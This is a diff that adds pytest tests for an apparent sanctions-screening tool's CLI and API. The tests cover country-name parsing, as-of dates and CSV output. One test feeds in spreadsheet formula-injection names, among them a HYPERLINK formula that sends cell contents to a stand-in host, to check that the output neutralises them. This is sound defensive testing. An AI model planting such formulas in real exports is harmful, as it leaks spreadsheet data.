@@ -1,0 +1,104 @@
+"""`screen` as a real process and `POST /api/screen` on a real `serve`, fed what an ERP export holds: countries
+written out ("USA", "United Kingdom", "美国", "GBR"), a past as-of day, names that are spreadsheet formulas."""
+
+from __future__ import annotations
+
+import csv
+import http.client
+import io
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import copy_of
+from tests.faults.serving import serving
+
+ERP_ROWS = [("Huntington Ingals Industries", "USA"), ("Huntington Ingals Industries", "United Kingdom"),
+            ("Skydio Inc.", "U.S.A."), ("斯凯迪奥公司", "美国"), ("Nobody Trading Ltd", "GBR"), ("Gibbs & Cox", "U.S.")]
+BEFORE_MP = "2025-03-01"  # MP Materials: named only by MOFCOM-2026-23, published 2026-06-22
+
+
+@pytest.fixture(scope="module")
+def db_url(tmp_path_factory, replayed) -> str:
+    return copy_of(replayed, tmp_path_factory.mktemp("screen-erp") / "db.sqlite")
+
+
+def screen(db_url: str, tmp_path: Path, text: str, *args: str) -> subprocess.CompletedProcess[str]:
+    f = tmp_path / "erp.csv"
+    f.write_text(text, encoding="utf-8")
+    return subprocess.run([sys.executable, "-m", "mofcom_watch", "--db", db_url, "screen", str(f), *args],
+                          capture_output=True, text=True, timeout=120)
+
+
+def hits(report: dict) -> list[tuple[str, str | None, list[str]]]:
+    return [(r["query"]["name"], r["query"]["country"], sorted({h["entity_key"] for h in r["hits"]}))
+            for r in report["results"]]
+
+
+def test_countries_written_out_are_read_not_refused(db_url: str, tmp_path: Path) -> None:
+    """Was: exit 2 on "USA" (the whole file unscreened). A country decides a fuzzy hit as its code would."""
+    done = screen(db_url, tmp_path, "name,country\n" + "".join(f"{n},{c}\n" for n, c in ERP_ROWS), "--json")
+    assert done.returncode == 1, done.stderr
+    assert hits(json.loads(done.stdout)) == [
+        ("Huntington Ingals Industries", "US", ["huntingtoningallsindustries"]),
+        ("Huntington Ingals Industries", "GB", []),  # a fuzzy hit abroad is dropped, as with "GB"
+        ("Skydio Inc.", "US", ["skydio"]), ("斯凯迪奥公司", "US", ["skydio"]), ("Nobody Trading Ltd", "GB", []),
+        ("Gibbs & Cox", "US", ["gibbsandcox"])]
+    bad = screen(db_url, tmp_path, "Skydio Inc.,US\nX Corp,Narnia\n")
+    assert bad.returncode == 2 and bad.stdout == ""
+    assert "erp.csv:2: country 'Narnia' is no country" in bad.stderr and len(bad.stderr.splitlines()) == 1
+
+
+def test_a_listing_published_after_the_day_is_no_hit_and_is_said(db_url: str, tmp_path: Path) -> None:
+    """Was: exit 1 with state null for MP Materials on 2025-03-01, fifteen months before it was listed."""
+    done = screen(db_url, tmp_path, "MP Materials Corp,US\n", "--as-of", BEFORE_MP, "--json")
+    assert done.returncode == 0, done.stdout
+    out = json.loads(done.stdout)
+    (result,) = out["results"]
+    assert out["matched"] == 0 and result["hits"] == []
+    assert [(x["entity_key"], x["notice_key"], x["published"], x["note"]) for x in result["listed_later"]] == [
+        ("mpmaterials", "MOFCOM-2026-23", "2026-06-22", "listed later on 2026-06-22 by MOFCOM-2026-23")]
+    table = screen(db_url, tmp_path, "MP Materials Corp,US\n", "--as-of", BEFORE_MP)
+    assert table.returncode == 0 and "0 of 1 counterparties listed" in table.stdout
+    assert "mpmaterials listed later on 2026-06-22 by MOFCOM-2026-23" in table.stdout
+    # Skydio that day: the MFA order in force is a hit; the MOFCOM and UEL notices of March-April 2025 are not
+    done = screen(db_url, tmp_path, "Skydio Inc.,US\n", "--as-of", BEFORE_MP, "--csv")
+    assert done.returncode == 1
+    (row,) = csv.DictReader(io.StringIO(done.stdout))
+    assert (row["notice_key"], row["state"]) == ("MFA-ORDER-2024-13", "in_force")
+    assert row["note"] == ("listed later on 2025-03-04 by MOFCOM-2025-13; listed later on 2025-04-04 by UEL-2025-7")
+
+
+def test_csv_output_cells_are_never_spreadsheet_formulas(db_url: str, tmp_path: Path) -> None:
+    """Was: a name "=HYPERLINK(…)" came out as is in --csv, a live formula when the file is opened in Excel."""
+    names = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-Skydio Inc.", "@SUM(A1)", "Skydio-Inc"]
+    text = "".join('"' + n.replace('"', '""') + '",US\n' for n in names)
+    done = screen(db_url, tmp_path, text, "--csv")
+    assert done.returncode == 1, done.stderr
+    cells = [row["counterparty"] for row in csv.DictReader(io.StringIO(done.stdout))]
+    assert "'-Skydio Inc." in cells  # its hits kept, the name neutralised on each row
+    assert list(dict.fromkeys(cells)) == ["'" + n for n in names[:4]] + ["Skydio-Inc"]
+    as_json = json.loads(screen(db_url, tmp_path, text, "--json").stdout)
+    assert [r["query"]["name"] for r in as_json["results"]] == names  # only the CSV output is changed
+
+
+def test_the_api_reads_countries_and_the_day_as_the_command(db_url: str, tmp_path: Path) -> None:
+    rows = [*ERP_ROWS, ("MP Materials Corp", "United States")]
+    cli = screen(db_url, tmp_path, "".join(f"{n},{c}\n" for n, c in rows), "--as-of", BEFORE_MP, "--json")
+    request = {"as_of": BEFORE_MP, "counterparties": [{"name": n, "country": c} for n, c in rows]}
+    with serving(db_url, tmp_path) as served:
+        conn = http.client.HTTPConnection("127.0.0.1", served.port, timeout=60)
+        conn.request("POST", "/api/screen", body=json.dumps(request).encode(), headers={"Content-Type": "application/json"})
+        resp = conn.getresponse()
+        status, answer = resp.status, json.loads(resp.read())
+        conn.request("POST", "/api/screen", body=json.dumps({"counterparties": [{"name": "X", "country": "Narnia"}]}))
+        bad = conn.getresponse()
+        bad_status, bad_answer = bad.status, json.loads(bad.read())
+        conn.close()
+    assert status == 200 and cli.returncode == 1, (answer, cli.stderr)
+    assert answer == json.loads(cli.stdout)  # same hits, same countries, same later listings (no line numbers aside)
+    assert answer["results"][-1]["hits"] == [] and answer["results"][-1]["listed_later"][0]["published"] == "2026-06-22"
+    assert bad_status == 400 and "counterparty #1: country 'Narnia' is no country" in bad_answer["error"]
